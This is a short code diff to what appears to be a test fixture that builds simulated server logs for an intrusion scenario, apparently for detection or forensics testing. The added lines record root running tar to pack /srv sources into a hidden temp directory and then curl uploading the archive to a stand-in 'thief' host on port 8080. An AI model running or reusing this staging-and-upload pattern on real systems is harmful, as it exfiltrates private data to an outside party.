@@ -221,6 +221,12 @@ const alert = (details: Readonly<Record<string, string>> = alertDetails): string
   });
 
 export type Files = Readonly<Record<string, string | readonly string[]>>;
+/** The same, and that he packs its sources and sends them home. */
+const packing: readonly string[] = [
+  ranAsRoot('Feb 10 18:24:40', '/usr/bin/tar -C /srv -czf /var/tmp/.x/b.tgz sources'),
+  ranAsRoot('Feb 10 18:30:05', `/usr/bin/curl -s -T /var/tmp/.x/b.tgz http://${thief}:8080/u`),
+];
+
 export const whole: Files = {
   'auth.log': signIns,
   'cpu.json': cpu,
@@ -229,3 +235,5 @@ export const whole: Files = {
   'audit.ndjson': [launch],
   'alert.json': alert(),
 };
+
+export const emptied: Files = { ...whole, 'auth.log': [...signIns, ...packing] };
